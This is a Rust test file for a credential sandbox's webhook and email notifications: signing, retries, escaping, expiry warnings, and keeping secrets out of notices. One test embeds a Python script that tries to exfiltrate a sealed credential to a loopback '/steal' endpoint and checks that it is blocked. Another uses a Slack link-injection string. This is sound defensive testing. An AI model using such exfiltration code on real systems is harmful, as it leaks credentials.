//! Webhook notifications against a real loopback receiver: what is sent for an
//! approval and an agent's request, in both formats, signed; a failed delivery
//! retried; no secret in any body; bad settings refused.
#![allow(clippy::unwrap_used, clippy::expect_used)] // a panic is how a test fails

mod common;

use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::extract::{Path, State};
use axum::http::{HeaderMap, StatusCode};
use axum::routing::post;
use serde_json::{json, Value};

use common::{req, send_reply};

type Env = common::sandboxed::Sandboxed;

const SECRET: &str = "whsec_0123456789abcdef";
const VALUE: &str = "sk_notify_5e4d3c2b1a";

#[derive(Clone, Default)]
struct Receiver {
    got: Arc<Mutex<Vec<(String, HeaderMap, String)>>>,
    json_calls: Arc<AtomicU32>,
}

/// A loopback HTTP server that records every POST; the first one to `/json`
/// fails with 500, so its delivery must be retried.
async fn receiver() -> (String, Receiver) {
    let r = Receiver::default();
    let app = axum::Router::new()
        .route(
            "/{name}",
            post(
                |State(r): State<Receiver>,
                 Path(name): Path<String>,
                 headers: HeaderMap,
                 body: String| async move {
                    let first = name == "json" && r.json_calls.fetch_add(1, Ordering::SeqCst) == 0;
                    r.got.lock().unwrap().push((name, headers, body));
                    if first {
                        StatusCode::INTERNAL_SERVER_ERROR
                    } else {
                        StatusCode::NO_CONTENT
                    }
                },
            ),
        )
        .with_state(r.clone());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    (base, r)
}

/// Waits until `pred` holds for the received requests.
async fn wait_for(r: &Receiver, what: &str, pred: impl Fn(&[(String, HeaderMap, String)]) -> bool) {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        if pred(&r.got.lock().unwrap()) {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "never received {what}: {:?}",
            r.got.lock().unwrap()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn events(got: &[(String, HeaderMap, String)], hook: &str) -> Vec<String> {
    got.iter()
        .filter(|(n, _, _)| n == hook)
        .map(|(_, h, _)| h["x-airlock-event"].to_str().unwrap().to_string())
        .collect()
}

#[tokio::test]
async fn webhooks_are_told_signed_retried_and_never_get_a_secret() {
    let env = Env::start_with(|c| c.notify_retry_ms = 50)
        .await
        .expect("these tests need the real sandbox");
    let (base, rx) = receiver().await;

    // Bad settings are refused with the reason.
    for (body, needle) in [
        (
            json!({"url": "ftp://x", "format": "json", "events": ["approval_needed"], "secret": SECRET}),
            "url",
        ),
        (
            json!({"url": format!("{base}/json"), "format": "json", "events": ["approval_needed"], "secret": "short"}),
            "secret",
        ),
        (
            json!({"url": format!("{base}/json"), "format": "json", "events": [], "secret": SECRET}),
            "events",
        ),
        (
            json!({"url": format!("{base}/json"), "format": "json", "events": ["test"], "secret": SECRET}),
            "events",
        ),
    ] {
        let (s, v) = env
            .admin("POST", "/api/admin/notifications/webhooks", Some(body))
            .await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
        assert!(v["detail"].as_str().unwrap().contains(needle), "{v}");
    }
    let (s, json_hook) = env
        .admin(
            "POST",
            "/api/admin/notifications/webhooks",
            Some(json!({"url": format!("{base}/json"), "format": "json",
                        "events": ["approval_needed", "agent_request"], "secret": SECRET})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{json_hook}");
    let (s, slack_hook) = env
        .admin(
            "POST",
            "/api/admin/notifications/webhooks",
            Some(json!({"url": format!("{base}/slack"), "format": "slack",
                        "events": ["approval_needed"], "secret": SECRET})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{slack_hook}");
    let (_, settings) = env.admin("GET", "/api/admin/notifications", None).await;
    assert_eq!(settings["webhooks"].as_array().unwrap().len(), 2);
    assert!(!settings.to_string().contains(SECRET), "{settings}");

    // An agent's new profile: the JSON hook only (the Slack one did not ask).
    let (s, _, p) = send_reply(
        &env.app,
        req(
            "POST",
            "/profiles",
            None,
            None,
            Some(json!({"description": "agent <http://evil|click> draft", "credentials": []})),
        ),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{p}");
    // Its first delivery failed (500) and was retried.
    wait_for(&rx, "agent_request twice", |g| {
        events(g, "json")
            .iter()
            .filter(|e| *e == "agent_request")
            .count()
            == 2
    })
    .await;

    // An execution held for approval: both hooks.
    let (pid, key) = env
        .locked_profile("approve me", &[("API_KEY", VALUE)])
        .await;
    env.admin(
        "PUT",
        &format!("/api/admin/profiles/{pid}"),
        Some(json!({"approval": "every_run", "description": "nightly <b>&</b> report"})),
    )
    .await;
    let (s, _, v) = env
        .submit(
            &key,
            "print(settings.get('API_KEY'))\nset_result(1)\n",
            None,
        )
        .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    let exec = v["execution_id"].as_str().unwrap().to_string();
    wait_for(&rx, "approval_needed on both", |g| {
        events(g, "json").contains(&"approval_needed".to_string())
            && events(g, "slack").contains(&"approval_needed".to_string())
    })
    .await;

    let got = rx.got.lock().unwrap().clone();
    for (hook, headers, body) in &got {
        // Signed: HMAC-SHA256(secret, timestamp + "." + body).
        let ts = headers["x-airlock-timestamp"].to_str().unwrap();
        let sig = headers["x-airlock-signature"].to_str().unwrap();
        let expected = airlock::ids::hmac_hex(SECRET.as_bytes(), format!("{ts}.{body}").as_bytes());
        assert_eq!(sig, format!("sha256={expected}"), "{hook}: {body}");
        assert!(
            !body.contains(VALUE) && !body.contains(SECRET),
            "{hook}: {body}"
        );
        assert!(!body.contains("print("), "no script in a notice: {body}");
    }
    let approval: Value = got
        .iter()
        .find(|(n, h, _)| n == "json" && h["x-airlock-event"] == "approval_needed")
        .map(|(_, _, b)| serde_json::from_str(b).unwrap())
        .unwrap();
    assert_eq!(approval["event"], "approval_needed");
    assert_eq!(approval["data"]["execution_id"], exec.as_str());
    assert_eq!(approval["data"]["profile_id"], pid.as_str());
    assert!(
        approval["link"]
            .as_str()
            .unwrap()
            .ends_with(&format!("/ui/approvals/{exec}")),
        "{approval}"
    );
    let slack: Value = got
        .iter()
        .find(|(n, _, _)| n == "slack")
        .map(|(_, _, b)| serde_json::from_str(b).unwrap())
        .unwrap();
    let text = slack["text"].as_str().unwrap();
    assert!(
        text.contains("nightly &lt;b&gt;&amp;&lt;/b&gt; report"),
        "escaped: {text}"
    );
    assert!(
        text.contains(&format!("/ui/approvals/{exec}|Open in Airlock>")),
        "{text}"
    );

    // The deliveries say what happened.
    let (_, settings) = env.admin("GET", "/api/admin/notifications", None).await;
    let deliveries = settings["deliveries"].as_array().unwrap();
    let retried = deliveries
        .iter()
        .find(|d| d["event"] == "agent_request")
        .unwrap();
    assert_eq!(retried["state"], "delivered", "{retried}");
    assert_eq!(retried["attempts"], 2, "{retried}");
    assert_eq!(retried["last_error"], Value::Null);

    // A test goes to every webhook; a deleted one gets nothing more.
    let slack_id = slack_hook["id"].as_str().unwrap();
    let (s, _) = env
        .admin(
            "DELETE",
            &format!("/api/admin/notifications/webhooks/{slack_id}"),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let (s, _) = env
        .admin(
            "DELETE",
            &format!("/api/admin/notifications/webhooks/{slack_id}"),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = env
        .admin("POST", "/api/admin/notifications/test", None)
        .await;
    assert_eq!(s, StatusCode::ACCEPTED);
    wait_for(&rx, "the test notice", |g| {
        events(g, "json").contains(&"test".to_string())
    })
    .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(!events(&rx.got.lock().unwrap(), "slack").contains(&"test".to_string()));
}

#[tokio::test]
async fn a_webhook_that_keeps_failing_is_given_up_after_five_attempts() {
    let env = Env::start_with(|c| c.notify_retry_ms = 20)
        .await
        .expect("these tests need the real sandbox");
    // Nothing listens on this loopback port once the listener is dropped.
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let (s, _) = env
        .admin(
            "POST",
            "/api/admin/notifications/webhooks",
            Some(
                json!({"url": format!("http://127.0.0.1:{port}/hook"), "format": "json",
                        "events": ["agent_request"], "secret": SECRET}),
            ),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED);
    let (s, _) = env
        .admin("POST", "/api/admin/notifications/test", None)
        .await;
    assert_eq!(s, StatusCode::ACCEPTED);
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (_, v) = env.admin("GET", "/api/admin/notifications", None).await;
        let d = &v["deliveries"][0];
        if d["state"] == "failed" {
            assert_eq!(d["attempts"], 5, "{d}");
            assert!(
                d["last_error"].as_str().unwrap().contains("request failed"),
                "{d}"
            );
            break;
        }
        assert!(Instant::now() < deadline, "never gave up: {v}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// A real SMTP server (aiosmtpd, from PyPI) on a loopback port, printing each
/// message it accepts as one JSON line.
const SMTP_SERVER: &str = r#"
import json, sys, time
from aiosmtpd.controller import Controller
class Handler:
    async def handle_DATA(self, server, session, envelope):
        print(json.dumps({"from": envelope.mail_from, "to": envelope.rcpt_tos,
                          "data": envelope.content.decode("utf-8", "replace")}), flush=True)
        return "250 OK"
c = Controller(Handler(), hostname="127.0.0.1", port=int(sys.argv[1]))
c.start()
print("READY", flush=True)
time.sleep(120)
"#;

#[tokio::test]
async fn e_mail_reaches_a_real_smtp_server_without_secrets() {
    use tokio::io::AsyncBufReadExt;
    let env = Env::start_with(|c| c.notify_retry_ms = 50)
        .await
        .expect("these tests need the real sandbox");
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut smtp = tokio::process::Command::new("/usr/bin/python3")
        .args(["-c", SMTP_SERVER, &port.to_string()])
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .expect("python3 with aiosmtpd (installed by .ci/run)");
    let mut lines = tokio::io::BufReader::new(smtp.stdout.take().unwrap()).lines();
    let ready = tokio::time::timeout(Duration::from_secs(30), lines.next_line())
        .await
        .expect("the SMTP server starts")
        .unwrap();
    assert_eq!(ready.as_deref(), Some("READY"), "aiosmtpd did not start");

    // Refused: clear text to another host, a password without TLS, a bad address.
    let base = json!({"host": "127.0.0.1", "port": port, "tls": "none",
                      "from": "Airlock <airlock@example.test>", "to": ["ops@example.test"],
                      "events": ["approval_needed"]});
    for (patch, needle) in [
        (json!({"host": "mail.example.test"}), "localhost"),
        (json!({"username": "u", "password": "smtp-pass-123"}), "TLS"),
        (json!({"from": "not an address"}), "from"),
        (json!({"to": []}), "to"),
    ] {
        let mut body = base.clone();
        for (k, v) in patch.as_object().unwrap() {
            body[k] = v.clone();
        }
        let (s, v) = env
            .admin("PUT", "/api/admin/notifications/email", Some(body))
            .await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
        assert!(
            v["detail"].as_str().unwrap().contains(needle),
            "{needle}: {v}"
        );
    }
    let (s, v) = env
        .admin("PUT", "/api/admin/notifications/email", Some(base.clone()))
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["has_password"], false);

    let (pid, key) = env.locked_profile("mail me", &[("API_KEY", VALUE)]).await;
    env.admin(
        "PUT",
        &format!("/api/admin/profiles/{pid}"),
        Some(json!({"approval": "every_run"})),
    )
    .await;
    let (s, _, v) = env
        .submit(&key, "print(settings.get('API_KEY'))\n", None)
        .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    let exec = v["execution_id"].as_str().unwrap().to_string();
    let line = tokio::time::timeout(Duration::from_secs(30), lines.next_line())
        .await
        .expect("a message arrives")
        .unwrap()
        .unwrap();
    let msg: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(msg["from"], "airlock@example.test");
    assert_eq!(msg["to"], json!(["ops@example.test"]));
    // The text is quoted-printable: undo its soft line breaks and `=3D`.
    let data = msg["data"]
        .as_str()
        .unwrap()
        .replace("=\r\n", "")
        .replace("=\n", "")
        .replace("=3D", "=");
    assert!(
        data.contains("Subject: Airlock: an execution of profile"),
        "{data}"
    );
    assert!(data.contains(&format!("/ui/approvals/{exec}")), "{data}");
    assert!(!data.contains(VALUE) && !data.contains("print("), "{data}");

    // "Send a test" reaches the mailbox too; then the settings go away.
    env.admin("POST", "/api/admin/notifications/test", None)
        .await;
    let line = tokio::time::timeout(Duration::from_secs(30), lines.next_line())
        .await
        .expect("the test message arrives")
        .unwrap()
        .unwrap();
    assert!(line.contains("a test notification"), "{line}");
    let (_, v) = env.admin("GET", "/api/admin/notifications", None).await;
    assert!(
        v["deliveries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["target"] == "email" && d["state"] == "delivered"),
        "{v}"
    );
    let (s, _) = env
        .admin("DELETE", "/api/admin/notifications/email", None)
        .await;
    assert_eq!(s, StatusCode::NO_CONTENT);
    let (_, v) = env.admin("GET", "/api/admin/notifications", None).await;
    assert_eq!(v["email"], Value::Null);
}

#[tokio::test]
async fn an_expiring_profile_and_a_sealed_violation_are_told_once_each() {
    let env = Env::start_with(|c| {
        c.notify_retry_ms = 50;
        c.expiry_check_secs = 1;
    })
    .await
    .expect("these tests need the real sandbox");
    let (base, rx) = receiver().await;
    let (s, v) = env
        .admin(
            "POST",
            "/api/admin/notifications/webhooks",
            Some(json!({"url": format!("{base}/hook"), "format": "json",
                        "events": ["profile_expiring", "sealed_violation"], "secret": SECRET})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");

    // A sealed credential bound to a host the script never reaches; the script
    // sends its placeholder to the receiver (loopback, allowed) instead.
    let (s, v) = env
        .admin(
            "POST",
            "/api/admin/credentials",
            Some(
                json!({"name": "BOUND_KEY", "value": VALUE, "mode": "sealed",
                        "bound_hosts": ["127.0.0.5:9"]}),
            ),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let (s, p) = env
        .admin(
            "POST",
            "/api/admin/profiles",
            Some(json!({"description": "Leaky", "credentials": ["BOUND_KEY"]})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{p}");
    let id = p["id"].as_str().unwrap().to_string();
    let (s, locked) = env
        .admin("POST", &format!("/api/admin/profiles/{id}/lock"), None)
        .await;
    assert_eq!(s, StatusCode::OK, "{locked}");
    let key = locked["key"].as_str().unwrap().to_string();
    let receiver_host = base.trim_start_matches("http://").to_string();
    env.set_hosts(&id, json!([receiver_host])).await;
    let out = env
        .run(
            &key,
            &format!(
                r#"
import urllib.request, urllib.error
req = urllib.request.Request("{base}/steal", data=b"x", headers={{"X-Anything": settings.get("BOUND_KEY")}})
try:
    urllib.request.urlopen(req, timeout=10)
    set_result("sent")
except urllib.error.HTTPError as e:
    set_result(e.code)
"#
            ),
        )
        .await;
    assert_eq!(out["result"], 403, "{out}");
    wait_for(&rx, "the sealed violation", |got| {
        events(got, "hook").contains(&"sealed_violation".to_string())
    })
    .await;
    // The receiver never got the request itself, only the notification.
    assert!(events(&rx.got.lock().unwrap(), "steal").is_empty());
    {
        let got = rx.got.lock().unwrap();
        let (_, _, body) = got
            .iter()
            .find(|(n, h, _)| n == "hook" && h["x-airlock-event"] == "sealed_violation")
            .unwrap();
        let v: Value = serde_json::from_str(body).unwrap();
        assert_eq!(v["data"]["credentials"], json!(["BOUND_KEY"]), "{v}");
        assert_eq!(v["data"]["host"], receiver_host.as_str(), "{v}");
        assert_eq!(v["data"]["revoked"], false, "{v}");
        assert_eq!(v["data"]["execution_id"], out["execution_id"], "{v}");
        assert!(!body.contains(VALUE), "{body}");
        assert!(!body.contains("airlock-sealed:"), "{body}");
    }

    // The profile expires in two hours: told once, not at every check.
    let soon = (chrono::Utc::now() + chrono::Duration::hours(2)).to_rfc3339();
    let (s, v) = env
        .admin(
            "PUT",
            &format!("/api/admin/profiles/{id}"),
            Some(json!({ "expires_at": soon })),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    wait_for(&rx, "the expiry warning", |got| {
        events(got, "hook").contains(&"profile_expiring".to_string())
    })
    .await;
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let told = |rx: &Receiver| {
        events(&rx.got.lock().unwrap(), "hook")
            .iter()
            .filter(|e| *e == "profile_expiring")
            .count()
    };
    assert_eq!(told(&rx), 1, "warned again without a change");
    {
        let got = rx.got.lock().unwrap();
        let (_, _, body) = got
            .iter()
            .find(|(_, h, _)| h["x-airlock-event"] == "profile_expiring")
            .unwrap();
        let v: Value = serde_json::from_str(body).unwrap();
        assert_eq!(v["data"]["profile_id"], id.as_str(), "{v}");
        assert!(
            v["link"]
                .as_str()
                .unwrap()
                .ends_with(&format!("/ui/profiles/{id}")),
            "{v}"
        );
    }
    // Moved (still within a day): told again. Moved beyond a day: nothing.
    let sooner = (chrono::Utc::now() + chrono::Duration::hours(1)).to_rfc3339();
    env.admin(
        "PUT",
        &format!("/api/admin/profiles/{id}"),
        Some(json!({ "expires_at": sooner })),
    )
    .await;
    wait_for(&rx, "a second expiry warning", |got| {
        events(got, "hook")
            .iter()
            .filter(|e| *e == "profile_expiring")
            .count()
            == 2
    })
    .await;
    let later = (chrono::Utc::now() + chrono::Duration::days(3)).to_rfc3339();
    env.admin(
        "PUT",
        &format!("/api/admin/profiles/{id}"),
        Some(json!({ "expires_at": later })),
    )
    .await;
    tokio::time::sleep(Duration::from_millis(2500)).await;
    assert_eq!(told(&rx), 2);
}
